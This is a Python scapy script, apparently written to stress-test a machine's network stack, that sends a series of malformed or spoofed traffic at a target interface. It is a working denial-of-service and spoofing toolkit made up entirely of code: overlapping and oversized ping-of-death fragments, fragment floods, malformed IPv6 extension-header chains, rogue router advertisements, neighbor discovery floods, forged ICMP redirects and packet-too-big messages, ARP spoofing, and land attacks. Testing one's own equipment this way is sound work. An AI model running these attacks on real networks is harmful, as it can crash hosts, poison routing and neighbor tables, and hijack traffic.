"""Sends what no honest peer does to a machine behind an interface, a kind after the other.

Usage: attacks.py INTERFACE MAC IPV4 IPV6; prints each kind with the number of its frames.
"""

import random
import sys

from scapy.all import (
    ARP,
    Ether,
    ICMP,
    ICMPv6DestUnreach,
    ICMPv6EchoRequest,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6ND_Redirect,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptMTU,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    ICMPv6PacketTooBig,
    IP,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting,
    PadN,
    Raw,
    TCP,
    UDP,
    conf,
)

interface, mac, v4, v6 = sys.argv[1:]
random.seed(1)
socket = conf.L2socket(iface=interface)
NEAR4 = "10.77.0."
NEAR6 = "fd00:77::"


def host4():
    return NEAR4 + str(random.randrange(3, 250))


def host6():
    return NEAR6 + "%x:%x" % (random.randrange(1, 65536), random.randrange(3, 65536))


def station():
    return "52:54:00:%02x:%02x:%02x" % tuple(random.randrange(256) for _ in range(3))


def attack(name, packets, to=mac):
    frames = [bytes(Ether(dst=to, src=station()) / packet) for packet in packets]
    for frame in frames:
        socket.send(frame)
    print(name, len(frames), flush=True)


def fragment4(offset, length, more, ident=None, protocol=1, source=None):
    return IP(
        src=source or host4(), dst=v4, proto=protocol, id=ident or random.randrange(65536),
        flags="MF" if more else 0, frag=offset // 8,
    ) / Raw(bytes(length))


def fragment6(offset, length, more, ident=None, protocol=58, source=None):
    return (
        IPv6(src=source or host6(), dst=v6)
        / IPv6ExtHdrFragment(
            nh=protocol, offset=offset // 8, m=int(more), id=ident or random.getrandbits(32)
        )
        / Raw(bytes(length))
    )


def overlapping(fragment, source):
    for ident in range(1, 60):
        yield fragment(0, 64, True, ident, source=source)
        yield fragment(24 + 8 * (ident % 5), 16 + ident % 9, ident % 2 == 0, ident, source=source)
        yield fragment(64, 64, False, ident, source=source)


def of_death(fragment, source):
    for ident in range(1, 6):
        for offset in range(0, 65536 - 1400, 1400):
            yield fragment(offset, 1400, True, ident, source=source)
        yield fragment(65528, 400, False, ident, source=source)


def tiny(fragment, source):
    for ident in range(1, 30):
        for offset in range(0, 64, 8):
            yield fragment(offset, 8, offset < 56, ident, protocol=6, source=source)


attack("overlapping", overlapping(fragment4, NEAR4 + "9"))
attack("overlapping-v6", overlapping(fragment6, NEAR6 + "9"))
attack("ping-of-death", of_death(fragment4, NEAR4 + "9"))
attack("ping-of-death-v6", of_death(fragment6, NEAR6 + "9"))
attack("tiny", tiny(fragment4, NEAR4 + "9"))
attack("tiny-v6", tiny(fragment6, NEAR6 + "9"))
attack("fragment-flood", (fragment4(1024, 64, True) for _ in range(1500)))
attack("fragment-flood-v6", (fragment6(1024, 64, True) for _ in range(1500)))
attack(
    "atomic",
    (
        IPv6(src=host6(), dst=v6) / IPv6ExtHdrFragment(nh=58, id=7) / ICMPv6EchoRequest(data=b"a" * 32)
        for _ in range(100)
    ),
)


def chains():
    echo = ICMPv6EchoRequest(data=b"a" * 8)
    for count in (1, 7, 8, 9, 20, 150):
        packet = IPv6(src=NEAR6 + "1", dst=v6)
        for _ in range(count):
            packet /= IPv6ExtHdrDestOpt()
        yield packet / echo
    for kind in (0, 1, 3, 4, 250):
        routing = IPv6ExtHdrRouting(type=kind, segleft=1, addresses=[v6])
        yield IPv6(src=NEAR6 + "1", dst=v6) / routing / echo
    yield IPv6(src=NEAR6 + "1", dst=v6) / IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop() / echo
    for option in range(256):
        header = IPv6ExtHdrDestOpt(options=[PadN(otype=option, optdata=b"\0" * (option % 7))])
        yield IPv6(src=NEAR6 + "1", dst=v6) / header / echo
    for _ in range(200):
        nh = random.choice([0, 43, 44, 50, 51, 59, 60, 135, 253])
        yield IPv6(src=NEAR6 + "1", dst=v6, nh=nh) / Raw(random.randbytes(random.randrange(80)))


attack("header-chains", chains())


def advertisements():
    for _ in range(600):
        router = "fe80::%x" % random.randrange(2, 65536)
        yield (
            IPv6(src=router, dst="ff02::1", hlim=255)
            / ICMPv6ND_RA(routerlifetime=random.choice([0, 1800, 9000]), prf=random.randrange(4))
            / ICMPv6NDOptSrcLLAddr(lladdr=station())
            / ICMPv6NDOptMTU(mtu=random.choice([0, 68, 1280, 1400, 9000]))
            / ICMPv6NDOptPrefixInfo(
                prefix="2001:db8:%x::" % random.randrange(65536), prefixlen=64,
                validlifetime=random.choice([0, 1, 86400]), preferredlifetime=1,
            )
        )


attack("router-advertisements", advertisements(), "33:33:00:00:00:01")
group = "33:33:ff:" + ":".join(mac.split(":")[3:])
attack(
    "solicitations",
    (
        IPv6(src=host6(), dst=v6, hlim=255)
        / ICMPv6ND_NS(tgt=v6)
        / ICMPv6NDOptSrcLLAddr(lladdr=station())
        for _ in range(1500)
    ),
)
attack(
    "advertisements",
    (
        IPv6(src=host6(), dst="ff02::1", hlim=255)
        / ICMPv6ND_NA(tgt=host6(), R=1, O=1)
        / ICMPv6NDOptDstLLAddr(lladdr=station())
        for _ in range(500)
    ),
    "33:33:00:00:00:01",
)
attack(
    "redirects",
    (
        IPv6(src="fe80::%x" % random.randrange(2, 65536), dst=v6, hlim=255)
        / ICMPv6ND_Redirect(tgt="fe80::%x" % random.randrange(2, 65536), dst=host6())
        for _ in range(200)
    ),
)
attack(
    "redirects-v4",
    (
        IP(src=NEAR4 + "1", dst=v4) / ICMP(type=5, code=1, gw=host4()) / IP(src=v4, dst=host4()) / UDP()
        for _ in range(200)
    ),
)
attack(
    "too-big",
    (
        IPv6(src=host6(), dst=v6)
        / ICMPv6PacketTooBig(mtu=random.randrange(2000))
        / IPv6(src=v6, dst=host6())
        / random.choice([TCP(sport=80), UDP(sport=546)])
        for _ in range(200)
    ),
)
attack(
    "too-big-v4",
    (
        IP(src=host4(), dst=v4)
        / ICMP(type=3, code=4, nexthopmtu=random.randrange(2000))
        / IP(src=v4, dst=host4())
        / random.choice([TCP(sport=80), UDP(sport=68)])
        for _ in range(200)
    ),
)
attack(
    "unreachable",
    (
        IPv6(src=host6(), dst=v6) / ICMPv6DestUnreach(code=random.randrange(9)) / Raw(random.randbytes(60))
        for _ in range(200)
    ),
)
attack("arp", (ARP(op=random.choice([1, 2]), psrc=host4(), pdst=v4, hwsrc=station()) for _ in range(500)))
attack("land", (IP(src=v4, dst=v4) / TCP(sport=80, dport=80, flags="S") for _ in range(50)))
attack("land-v6", (IPv6(src=v6, dst=v6) / TCP(sport=80, dport=80, flags="S") for _ in range(50)))
